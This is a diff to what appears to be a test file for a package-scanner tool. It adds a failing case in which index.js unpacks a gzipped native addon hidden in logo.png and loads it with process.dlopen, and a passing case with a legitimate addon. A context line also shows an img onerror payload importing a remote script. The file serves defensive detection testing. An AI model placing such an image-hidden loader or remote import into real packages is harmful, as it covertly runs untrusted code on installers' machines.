@@ -245,8 +245,37 @@ document.body.innerHTML = '<img src="x" onerror="import(&quot;https://code.inval
         },
       ],
     },
+    {
+      title: 'an addon that is unpacked out of a picture, and loaded',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `
+const picture = require('fs').readFileSync(__dirname + '/logo.png');
+const place = require('path').join(require('os').tmpdir(), 'addon.node');
+require('fs').writeFileSync(place, require('zlib').gunzipSync(picture.subarray(4096)));
+process.dlopen({ exports: {} }, place);
+`,
+      },
+      expect: [
+        {
+          message: 'process.dlopen loads what was written to … <temp>/addon.node before',
+          at: { in: 'tarball', path: 'index.js', line: 5 },
+          via: ['main', 'index.js'],
+        },
+      ],
+    },
   ],
   passes: [
+    {
+      title: 'an addon of its own that is loaded, and one that is named by who installs it',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `
+process.dlopen({ exports: {} }, __dirname + '/build/addon.node');
+require('fs').writeFileSync(require('os').tmpdir() + '/state.json', '{}');
+`,
+      },
+    },
     {
       title:
         'a script from the host that it always came from, an image, a chunk of the package, a file that is written',
